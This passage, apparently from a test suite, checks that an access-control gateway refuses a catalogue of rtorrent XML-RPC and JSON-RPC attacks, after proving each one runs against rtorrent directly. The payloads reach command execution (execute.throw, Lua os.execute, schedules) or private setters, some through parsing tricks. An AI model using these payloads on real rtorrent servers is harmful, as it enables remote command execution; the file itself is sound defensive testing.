    name: 'an XML comment splitting the method name (exec<!-- -->ute.throw)',
    blockedOnly: { '0.16.20': 'not real on 0.16.20, whose tinyxml2 reader takes the name up to the comment: method \'exec\' not defined' },
    steps: (t) => [handXml('exec<!-- x -->ute.throw', [str(''), str('touch'), str(t.marker)])],
    refused: 'execute.throw',
  },
  {
    name: 'an untyped <value> as a command string',
    blockedOnly: { '0.16.20': 'not real on 0.16.20, which refuses an untyped <value> ("received unsupported value type")' },
    steps: (t) => [handXml('d.multicall2', [str(''), '<value>main</value>', `<value>${t.exec}</value>`])],
    refused: 'execute.throw',
  },
  {
    name: 'a base64 command string',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', Buffer.from(t.exec)])],
    refused: 'execute.throw',
  },

  // --- blocked-only: not in 0.9.8, or not provable without a connected peer ----------------------
  {
    name: 'lua.execute.str running os.execute',
    blockedOnly: {
      '0.9.8': 'not in 0.9.8',
      '0.16.20': 'not real here: only a build with Lua defines it, and the 0.16.20 under test has none',
    },
    steps: (t) => [xmlCall('lua.execute.str', ['', `os.execute("touch ${t.marker}")`])],
    refused: 'lua.execute.str',
  },
  {
    name: 'schedule.if_absent of an execute.throw command',
    blockedOnly: 'not in 0.9.8 nor in 0.16.20: newer than both',
    steps: (t) => [xmlCall('schedule.if_absent', ['', `evil_${t.tag}`, '0', '0', t.exec])],
    refused: 'schedule.if_absent',
  },
  {
    name: 'a private command at the top level (d.state.set)',
    blockedOnly: 'not real over XML-RPC: only JSON-RPC up to 0.16.20 (see below) and jesec\'s fork expose private commands at the top level',
    steps: (t) => [xmlCall('d.state.set', [t.hash, 0])],
    refused: 'd.state.set',
  },
  {
    name: 'p.call_target naming execute.throw',
    blockedOnly: 'not provable here: it needs a connected peer, and an unknown hash crashes rtorrent',
    steps: (t) => [xmlCall('p.call_target', ['', t.hash, '2D5452333030302D6B736C6D7A6E74306A6B3734', 'execute.throw', 'touch', t.marker])],
    refused: 'p.call_target',
  },
];

/** Polls until `check` holds or `ms` pass; returns whether it held. */
async function eventually(check: () => boolean, ms: number): Promise<boolean> {
  const deadline = Date.now() + ms;
  for (;;) {
    if (check()) return true;
    if (Date.now() > deadline) return false;
    await sleep(10);
  }
}

function effectOf(attack: Attack, t: Target): boolean {
  try {
    return attack.effect ? attack.effect(t) : existsSync(t.marker);
  } catch {
    return false;
  }
}

/** Quiet time after a refused attack before looking for its mark: the refusal is synchronous, this is margin. */
const QUIET_MS = 100;

/** Why `attack` cannot be shown on `version`, or undefined where it is real. */
function blockedOn(attack: Attack, version: string): string | undefined {
  const why = attack.blockedOnly;
  return typeof why === 'string' ? why : why?.[version];
}

/** Torrent n for a path or an absolute URL ending in /<n>.torrent (what a proxy is asked for). */
function serveTorrent(url: string, res: ServerResponse): void {
  const n = Number(/\/(\d+)\.torrent$/.exec(url)?.[1] ?? -1);
  if (n < 0) res.writeHead(404).end();
  else res.writeHead(200, { 'content-type': 'application/x-bittorrent' }).end(makeTorrentBytes(n, { seed: 'attack' }));
}

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

/** Resolves once `hash` is in rtorrent's download list: load.* may return before it is. */
async function listed(rt: RtorrentInstance, hash: string, ms: number): Promise<void> {
  const deadline = Date.now() + ms;
  for (;;) {
    const list = await rt.call('download_list', ['']);
    if (Array.isArray(list) && list.includes(hash)) return;
    assert.ok(Date.now() < deadline, `torrent ${hash} never showed up`);
    await sleep(10);
  }
}

/**
 * How long a URL load may take to show: 0.9.8 fetches at once, 0.16.20's libtorrent runs curl on
 * whole-second timers (see fetchDeadlineMs in policy-clients.test.ts).
 */
const fetchDeadlineMs = (version: string): number => (version === '0.9.8' ? 5000 : 15_000);

interface JsonAnswer {
  readonly id?: number;
  readonly result?: unknown;
  readonly error?: { readonly code: number; readonly message: string };
}

if (BUILDS.length === 0) describe('attacks from the bypass catalogue', { skip: 'rtorrent not installed' }, () => undefined);
for (const build of BUILDS) describe(`attacks from the bypass catalogue: real against rtorrent ${build.version}, refused by the gateway`, () => suite(build));

function suite(build: RtorrentBuild): void {
  let direct: RtorrentInstance;
  let behind: RtorrentInstance;
  let gateway: GatewayTestInstance;
  let torrents: Server;
  let torrentPort = 0;
  let serial = 0;
  /** the attacker's proxies (Target.openProxy), closed at the end */
  const proxies: Server[] = [];

  before(async () => {
    [direct, behind] = await Promise.all([
      startRtorrent({ build, torrents: 2, name: 'attack-direct' }),
      startRtorrent({ build, torrents: 2, name: 'attack-behind' }),
    ]);
    gateway = await startGateway({ upstream: `unix:${behind.socketPath}` });
    // Serves /<n>.torrent as torrent n, for the attacks that load by URL.
    torrents = createServer((req, res) => serveTorrent(req.url ?? '', res));
    torrentPort = await listen(torrents);
  });

  after(async () => {
    torrents?.close();
    for (const proxy of proxies) proxy.close();
    await gateway?.close();
    await Promise.all([direct?.stop(), behind?.stop()]);
  });

  function target(rt: RtorrentInstance, tag: string): Target {
    const dir = join(rt.dir, tag);
    mkdirSync(dir);
    const marker = join(dir, 'marker');
    const loaded: string[] = [];
    const proxied: string[] = [];
    let proxyUrl: string | undefined;
    return {
      rt,
      version: rt.version,
      dir,
      marker,
      hash: rt.infoHashes[0]!,
      exec: `execute.throw=touch,${marker}`,
      tag: tag.replace(/-/g, '_'),
      freshTorrent: () => makeTorrentBytes(++serial, { seed: 'attack' }),
      freshTorrentUrl: () => `http://127.0.0.1:${torrentPort}/${++serial}.torrent`,
      loaded,
      saved: new Map(),
      proxied,
      get proxyUrl(): string {
        assert.ok(proxyUrl !== undefined, 'openProxy() comes first');
        return proxyUrl;
      },
      async openProxy() {
        const proxy = createServer((req, res) => {
          proxied.push(req.url ?? '');
          serveTorrent(req.url ?? '', res);
        });
        proxies.push(proxy);
        proxyUrl = `http://127.0.0.1:${await listen(proxy)}`;
      },
      async loadTorrent() {
        const bytes = makeTorrentBytes(++serial, { seed: 'attack' });
        const hash = infoHashOf(bytes);
        await rt.call('load.raw', ['', bytes]);
        await listed(rt, hash, 2000);
        loaded.push(hash);
        return hash;
      },
      async loadTorrentUrl() {
        const n = ++serial;
        const hash = infoHashOf(makeTorrentBytes(n, { seed: 'attack' }));
        await rt.call('load.normal', ['', `http://127.0.0.1:${torrentPort}/${n}.torrent`]);
        await listed(rt, hash, fetchDeadlineMs(rt.version));
        return hash;
      },
    };
  }

  /** Straight to rtorrent: faults are expected (many commands fail after doing their damage). */
  async function sendDirect(rt: RtorrentInstance, body: string): Promise<void> {
    const response = await rt.raw(body).catch((err: Error) => {
      throw new Error(`${err.message}; rtorrent ${rt.running() ? 'runs' : `exited (${rt.child.exitCode ?? rt.child.signalCode})`}: ${readFileSync(rt.logPath, 'utf8').slice(-1500)}`);
    });
    try {
      decodeXmlRpcResponse(response.body);
    } catch (err) {
      if (!(err instanceof XmlRpcFault)) throw err;
    }
  }

  async function deniedLine(gw: GatewayTestInstance, from: number, user: string): Promise<Record<string, unknown>> {
    // The line is written when the response has been sent, which can be just after the client has it.
    let line: Record<string, unknown> | undefined;
    await eventually(() => {
      line = gw.logs.slice(from).find((entry) => entry.msg === 'call denied' && entry.user === user);
      return line !== undefined;
    }, 1000);
    assert.ok(line, `a "call denied" log line for ${user}`);
    return line;
  }

  ATTACKS.forEach((attack, index) => {
    const why = blockedOn(attack, build.version);
    const title = why
      ? `${attack.name} (blocked-only, ${why}): refused for standard and readonly`
      : `${attack.name}: real against rtorrent ${build.version}, refused for standard and readonly`;

    it(title, async () => {
      if (why === undefined) {
        // rtorrent 0.9.8 sometimes aborts (SIGABRT) a moment after an earlier proof's clean-up
        // erased a torrent its handlers still referenced; that proof had already passed. This one
        // gets a fresh rtorrent rather than a dead socket. An attack that kills rtorrent during its
        // own proof still fails on the running() check below.
        if (!direct.running()) {
          await direct.stop();
          direct = await startRtorrent({ build, torrents: 2, name: 'attack-direct' });
        }
        const t = target(direct, `a${index}`);
        await attack.arrange?.(t);
        for (const body of attack.steps(t)) await sendDirect(direct, body);
        await attack.afterwards?.(t);
        const real = await eventually(() => effectOf(attack, t), Math.max(attack.settleMs ?? 0, 1000) + 1000);
        await attack.cleanup?.(t);
        assert.ok(direct.running(), `the rtorrent used for the proofs died: ${readFileSync(direct.logPath, 'utf8').slice(-1000)}`);
        assert.ok(real, 'the attack works when sent straight to rtorrent');
      }

      const targets: Target[] = [];
      for (const { user, password, policy } of USERS) {
        const t = target(behind, `a${index}-${policy}`);
        await attack.arrange?.(t);
        const refused = typeof attack.refused === 'string' ? attack.refused : attack.refused[policy];
        for (const [step, body] of attack.steps(t).entries()) {
          const from = gateway.logs.length;
          const response = await post(gateway.url(), body, { authorization: basicAuth(user, password) });
          assert.equal(response.status, 200, `${policy} step ${step + 1}: HTTP 200`);
          assert.equal(response.headers.get('x-gateway-error'), 'GW_POLICY_DENIED', `${policy} step ${step + 1}: a policy refusal`);
          const fault = faultOf(response.body);
          assert.equal(fault.faultCode, -32403);
          // Later steps use names the first step would have created; they are refused for their own reason.
          const who = `for user "${user}" (policy "${policy}")`;
          const expected = step === 0 ? `${refused} is not allowed ${who}` : who;
          assert.ok(fault.faultString.includes(expected), `${policy} step ${step + 1}: "${fault.faultString}" should say "${expected}"`);

          const line = await deniedLine(gateway, from, user);
          assert.equal(line.level, 40);
          assert.equal(line.policy, policy);
          if (step === 0) assert.ok(String(line.denial).startsWith(`${refused}: `), `denial "${String(line.denial)}" names ${refused}`);
        }
        await attack.afterwards?.(t);
        targets.push(t);
      }
      // Where the attack is real, its effect may come late (schedules, watch directories).
      await sleep((why === undefined ? attack.settleMs ?? 0 : 0) + QUIET_MS);
      for (const t of targets) assert.equal(effectOf(attack, t), false, `no effect through the gateway (${t.tag})`);
    });
  });

  describe('JSON-RPC', () => {
    // 0.16.20 reads a body as JSON-RPC when CONTENT_TYPE says application/json, and there reaches
    // commands that XML-RPC keeps private (§1.2, §6.12; fixed upstream after 0.16.20). 0.9.8 speaks
    // XML-RPC only.
    const speaksJson = build.version !== '0.9.8';
    let jsonGateway: GatewayTestInstance;

    before(async () => {
      if (speaksJson) jsonGateway = await startGateway({ upstream: `unix:${behind.socketPath}`, upstreamToml: 'jsonrpc = true\ntimeout = "10s"' });
    });
    after(async () => {
      await jsonGateway?.close();
    });

    const json = (method: string, params: XmlParam[]): string => JSON.stringify({ jsonrpc: '2.0', id: 1, method, params });

    async function sendJsonDirect(rt: RtorrentInstance, body: string): Promise<JsonAnswer> {
      const response = await rt.raw(body, { contentType: 'application/json' });
      return JSON.parse(response.body.toString('utf8')) as JsonAnswer;
    }

    /** Through the gateway with upstream.jsonrpc on: a policy refusal in a JSON-RPC error, and a warn line. */
    async function refusedAsJson(body: string, refused: string): Promise<void> {
      for (const { user, password, policy } of USERS) {
        const from = jsonGateway.logs.length;
        const response = await post(jsonGateway.url(), body, { authorization: basicAuth(user, password), 'content-type': 'application/json' });
        assert.equal(response.status, 200, policy);
        assert.equal(response.headers.get('x-gateway-error'), 'GW_POLICY_DENIED', policy);
        const answer = JSON.parse(response.body.toString('utf8')) as JsonAnswer;
        assert.equal(answer.id, 1);
        assert.equal(answer.error?.code, -32403);
        assert.ok(answer.error?.message.includes(`${refused} is not allowed for user "${user}" (policy "${policy}")`), answer.error?.message);
        const line = await deniedLine(jsonGateway, from, user);
        assert.equal(line.level, 40);
      }
    }

    const title = speaksJson
      ? `a JSON-RPC execute.throw: real against rtorrent ${build.version}, refused before any policy for standard and readonly while upstream.jsonrpc is off`
      : 'a JSON-RPC execute.throw (blocked-only, not real on 0.9.8, which speaks only XML-RPC): refused before any policy for standard and readonly';
    it(title, async () => {
      if (speaksJson) {
        const t = target(direct, 'json-proof');
        await sendJsonDirect(direct, json('execute.throw', ['', 'touch', t.marker]));
        assert.ok(await eventually(() => existsSync(t.marker), 2000), 'the attack works when sent straight to rtorrent');
      }
      const targets: Target[] = [];
      for (const { user, password, policy } of USERS) {
        const t = target(behind, `json-${policy}`);
        const body = json('execute.throw', ['', 'touch', t.marker]);
        const auth = { authorization: basicAuth(user, password) };

        const asJson = await post(gateway.url(), body, { ...auth, 'content-type': 'application/json' });
        assert.equal(asJson.status, 415, `${policy}: application/json is not a body type the gateway reads while upstream.jsonrpc is off`);

        // Labelled as XML it is not XML-RPC: a parse fault, never relayed.
        const from = gateway.logs.length;
        const asXml = await post(gateway.url(), body, auth);
        assert.equal(asXml.status, 200);
        assert.equal(asXml.headers.get('x-gateway-error'), 'GW_XMLRPC_INVALID');
        faultOf(asXml.body);
        await eventually(() => gateway.logs.slice(from).some((entry) => entry.user === user && entry.level === 40), 1000);
        const line = gateway.logs.slice(from).find((entry) => entry.user === user && entry.level === 40);
        assert.equal(line?.outcome, 'invalid');
        targets.push(t);
      }
      await sleep(QUIET_MS);
      for (const t of targets) assert.equal(existsSync(t.marker), false);
    });

    it('a JSON-RPC execute.throw with upstream.jsonrpc on: refused by policy for standard and readonly', { skip: !speaksJson && 'rtorrent 0.9.8 speaks no JSON-RPC' }, async () => {
      const t = target(behind, 'json-on');
      await refusedAsJson(json('execute.throw', ['', 'touch', t.marker]), 'execute.throw');
      await sleep(QUIET_MS);
      assert.equal(existsSync(t.marker), false);
    });

    it(
      `a private setter over JSON-RPC (d.state.set), which XML-RPC does not reach${speaksJson ? `: real against rtorrent ${build.version}` : ''}, refused for standard and readonly`,
      { skip: !speaksJson && 'rtorrent 0.9.8 speaks no JSON-RPC' },
      async () => {
        const proof = target(direct, 'json-private');
        const hash = await proof.loadTorrent();
        await assert.rejects(direct.call('d.state.set', [hash, 1]), (err: unknown) => err instanceof XmlRpcFault && /not defined/i.test(err.faultString));
        assert.equal(await direct.call('d.state', [hash]), 0);
        const answer = await sendJsonDirect(direct, json('d.state.set', [hash, 1]));
        assert.equal(answer.error, undefined, JSON.stringify(answer));
        assert.equal(await direct.call('d.state', [hash]), 1, 'the private setter works when sent straight to rtorrent');

        const t = target(behind, 'json-private');
        const victim = await t.loadTorrent();
        await refusedAsJson(json('d.state.set', [victim, 1]), 'd.state.set');
        assert.equal(await behind.call('d.state', [victim]), 0);
      },
    );
  });
}
